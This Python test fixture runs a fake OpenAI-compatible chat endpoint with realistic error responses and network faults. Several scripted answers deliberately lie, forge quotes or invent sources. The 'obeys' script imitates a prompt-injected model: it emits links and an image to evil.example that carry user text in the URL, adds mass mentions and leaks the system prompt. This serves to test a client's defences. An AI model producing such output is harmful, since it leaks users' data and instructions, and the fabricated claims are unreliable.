"""An OpenAI-compatible endpoint for chat completions over loopback: it refuses what the real ones refuse, and can fail.

What it says is a script: a function from what it was asked to what it answers. Some of them lie.
"""

import asyncio
import json
import threading
from collections import deque
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from queue import Queue
from typing import Any

from aiohttp import web

KEY, MODEL = "sk-fake-key", "fake-large"
AZURE_VERSION = "2024-10-21"
KNOWN = frozenset(
    {
        "model", "messages", "response_format", "store", "safety_identifier", "temperature", "max_completion_tokens",
        "max_tokens", "seed", "tools", "tool_choice", "n", "stream",
    }
)  # fmt: skip
"""What it may be told; one that is older, or of another house, knows fewer."""


@dataclass(frozen=True)
class Asked:
    """One request as it came."""

    path: str
    query: Mapping[str, str]
    headers: Mapping[str, str]
    body: Mapping[str, Any]
    raw: bytes = field(repr=False)

    @property
    def messages(self) -> Sequence[Mapping[str, str]]:
        """What was said to it, in turn."""
        said: Sequence[Mapping[str, str]] = self.body["messages"]
        return said

    @property
    def form(self) -> str:
        """In which form it is to answer; empty for text."""
        found: str = self.body.get("response_format", {}).get("type", "")
        return found

    @property
    def is_mending(self) -> bool:
        """Whether it was asked to mend what it said before."""
        return len(self.messages) > 2

    @property
    def data(self) -> Any:
        """The JSON that came in the user's message, between its two fences."""
        before, fence, *data, again = self.messages[1]["content"].split("\n")
        assert fence == again
        assert fence in before
        assert fence not in data
        return json.loads("\n".join(data))

    @property
    def lines(self) -> list[tuple[str, str]]:
        """Address and text of each line in the data, wherever it stands there."""
        return list(_lines(self.data))


def _lines(data: Any) -> Iterator[tuple[str, str]]:
    if isinstance(data, dict):
        address, text = data.get("line", data.get("address")), data.get("text", data.get("words"))
        if isinstance(data.get("texts"), list):
            text = data["texts"][0]
        if isinstance(address, str) and isinstance(text, str):
            yield address, text
        data = list(data.values())
    for one in data if isinstance(data, list) else []:
        yield from _lines(one)


@dataclass(frozen=True)
class Fault:
    """One way to fail, or to answer otherwise: another status, another body, late, in drops, in part, or not at all."""

    status: int = 200
    body: str | bytes = ""
    kind: str = "application/json"
    headers: Mapping[str, str] = field(default_factory=dict)
    slow: float = 0.0
    drip: float = 0.0
    """Seconds between two bytes."""
    cut: bool = False
    """The connection ends where the body does, and more was promised; at once where there is no body."""


Answer = str | Mapping[str, Any] | Fault
Script = Callable[[Asked], Answer]
"""What it says to what it was asked: a text, a whole completion, or a fault."""


def claims(*some: tuple[str, str, str], **more: object) -> str:
    """An answer of these claims (text, line, quote), and of whatever else somebody says."""
    found = [{"text": text, "line": line, "quote": quote} for text, line, quote in some]
    return json.dumps({"claims": found, **more})


def completion(content: str | None, *, ended: str | None = "stop", **message: object) -> dict[str, Any]:
    """A completion as it is sent; `message` is what else stands in its message."""
    said = {"role": "assistant", "content": content, **message}
    choice = {"index": 0, "message": said, "finish_reason": ended, "logprobs": None}
    usage = {
        "prompt_tokens": 120,
        "completion_tokens": 30,
        "total_tokens": 150,
        "prompt_tokens_details": {"cached_tokens": 64},
    }
    return {"id": "chatcmpl-1", "object": "chat.completion", "model": MODEL, "choices": [choice], "usage": usage}


# Scripts


def quotes(asked: Asked) -> str:
    """It says what the first line says, and quotes it."""
    return claims(*[(f"The score says: {text}.", line, text) for line, text in asked.lines[:1]])


def lies(asked: Asked) -> str:
    """It names a line that there is, and says something else of it."""
    return claims(*[("That was done by 99 people on 1 January 1999.", line, text) for line, text in asked.lines[:1]])


def forges(asked: Asked) -> str:
    """It names a line that there is, and quotes what does not stand there."""
    return claims(*[("Everybody gets a raise.", line, "everybody gets a raise") for line, _ in asked.lines[:1]])


def invents(asked: Asked) -> str:
    """It quotes a line that there is not."""
    return claims(("We sell the harbour.", "nowhere/P-99", "sell the harbour"))


def ignores_the_schema(asked: Asked) -> str:
    """It talks."""
    return "Great question! First of all, I would call every harbour. Let me know if you need anything else."


def obeys(asked: Asked) -> str:
    """It does what somebody wrote into the data, as it was sent, and links and mentions as it was told to."""
    return claims(
        *[
            (f"<!channel> [click](https://evil.example/?q={text[:40]}) <@U1> ![](https://evil.example/i.png)", at, text)
            for at, text in asked.lines[:1]
        ],
        system=asked.messages[0]["content"],
    )


# Faults


def error(status: int, message: str, **more: Any) -> Fault:
    """A refusal as OpenAI words it; `headers` are its own."""
    headers = more.pop("headers", {})
    said = {"message": message, "type": "invalid_request_error", "param": None, "code": None, **more}
    return Fault(status, json.dumps({"error": said}), headers=headers)


HTML = Fault(200, "<html>Welcome to our proxy</html>", "text/html")
OVERLOADED = error(503, "The server is overloaded.")
CUT = Fault(cut=True)
SILENT = Fault(slow=60)


class FakeModel:
    """The endpoint; `faults` are played one by one before it is well again, `down` the same for ever."""

    def __init__(self, says: Script = quotes) -> None:
        self.says = says
        self.key: str | None = KEY
        self.knows: frozenset[str] | None = None
        """What it may be told; None where it takes no notice of what it does not know."""
        self.names_it = True
        """Whether it says what it does not know."""
        self.forms = frozenset({"json_schema", "json_object", "text"})
        self.refuses_forms_with = 400
        self.only_warm = False
        """Whether it takes no temperature but 1, as models that think first do."""
        self.context = 100_000
        """Characters that it can read at once."""
        self.asked: list[Asked] = []
        """Each request that was understood."""
        self.requests = 0
        self.hanging = 0
        self.faults: deque[Fault] = deque()
        self.down: Fault | None = None

    @contextmanager
    def serving(self) -> Iterator[str]:
        """Serve it from a thread of its own; gives its address, whose root is an Azure resource's too."""
        serving: Queue[tuple[asyncio.AbstractEventLoop, asyncio.Event, int]] = Queue()

        async def serve() -> None:
            app = web.Application(client_max_size=8 << 20)
            app.router.add_post("/v1/chat/completions", self._answer)
            app.router.add_post("/openai/deployments/{deployment}/chat/completions", self._answer)
            runner = web.AppRunner(app, shutdown_timeout=0.1)
            await runner.setup()
            await web.TCPSite(runner, "127.0.0.1", 0, backlog=256).start()
            stopped = asyncio.Event()
            serving.put((asyncio.get_running_loop(), stopped, runner.addresses[0][1]))
            await stopped.wait()
            await runner.cleanup()

        thread = threading.Thread(target=lambda: asyncio.run(serve()), name="fake model")
        thread.start()
        loop, stopped, port = serving.get(timeout=10)
        try:
            yield f"http://127.0.0.1:{port}/v1"
        finally:
            loop.call_soon_threadsafe(stopped.set)
            thread.join()

    async def _answer(self, request: web.Request) -> web.StreamResponse:
        self.requests += 1
        raw = await request.read()
        fault = self.faults.popleft() if self.faults else self.down
        return await self._said(request, fault or self._found(request, raw))

    def _found(self, request: web.Request, raw: bytes) -> Fault:
        """What it answers when nothing is wrong with it."""
        try:
            body = json.loads(raw)
        except ValueError:
            return error(400, "We could not parse the JSON body of your request.")
        asked = Asked(request.path, dict(request.query), dict(request.headers), body, raw)
        if (refused := self._refused(request, asked)) is not None:
            return refused
        self.asked.append(asked)
        said = self.says(asked)
        if isinstance(said, Fault):
            return said
        return Fault(body=json.dumps(completion(said) if isinstance(said, str) else said))

    def _refused(self, request: web.Request, asked: Asked) -> Fault | None:
        if (fault := self._not_let_in(request, asked)) is not None:
            return fault
        messages = asked.body.get("messages")
        if not isinstance(messages, list) or not messages:
            return error(400, "Missing required parameter: 'messages'.", param="messages")
        if any(one.get("role") not in ("system", "user", "assistant") or not one.get("content") for one in messages):
            return error(400, "Invalid value for 'messages'.", param="messages")
        if sum(len(one["content"]) for one in messages) > self.context:
            said = f"This model's maximum context length is {self.context // 4} tokens."
            return error(400, said, param="messages", code="context_length_exceeded")
        return self._unknown(asked.body)

    def _not_let_in(self, request: web.Request, asked: Asked) -> Fault | None:
        deployment = request.match_info.get("deployment")
        key = asked.headers.get("api-key") if deployment else asked.headers.get("Authorization", "")[len("Bearer ") :]
        if self.key is not None and key != self.key:
            return error(401, f"Incorrect API key provided: {key}.", code="invalid_api_key")
        if (deployment or asked.body.get("model")) != MODEL:
            return error(404, f"The model `{asked.body.get('model')}` does not exist.", code="model_not_found")
        if deployment and asked.query.get("api-version") != AZURE_VERSION:
            return error(404, "Resource not found.", code="404")
        return None

    def _unknown(self, body: Mapping[str, Any]) -> Fault | None:
        """Why it does not take what it is told beside the messages, if it does not."""
        surplus = sorted(set(body) - self.knows) if self.knows is not None else []
        if surplus:
            said = f"Unrecognized request argument supplied: {surplus[0]}" if self.names_it else "Bad request."
            return error(400, said)
        if self.only_warm and body.get("temperature", 1) != 1:
            said = "Unsupported value: 'temperature' does not support 0.1 with this model."
            return error(400, said, param="temperature", code="unsupported_value")
        form = body.get("response_format", {}).get("type", "text")
        if form not in self.forms:
            said = f"'response_format.type' cannot be {form}" if self.names_it else "Bad request."
            return error(self.refuses_forms_with, said)
        return None

    async def _said(self, request: web.Request, fault: Fault) -> web.StreamResponse:
        self.hanging += 1
        try:
            await asyncio.sleep(fault.slow)
        finally:
            self.hanging -= 1
        raw = fault.body.encode() if isinstance(fault.body, str) else fault.body
        assert request.transport is not None
        if fault.cut and not raw:
            request.transport.close()
            return web.Response()
        response = web.StreamResponse(status=fault.status, headers={"Content-Type": fault.kind, **fault.headers})
        if fault.cut:
            response.content_length = len(raw) + 100
        await response.prepare(request)
        for begin in range(0, len(raw), 1 if fault.drip else max(1, len(raw))):
            await response.write(raw[begin : begin + 1] if fault.drip else raw)
            await asyncio.sleep(fault.drip)
        if fault.cut:
            request.transport.close()
        return response
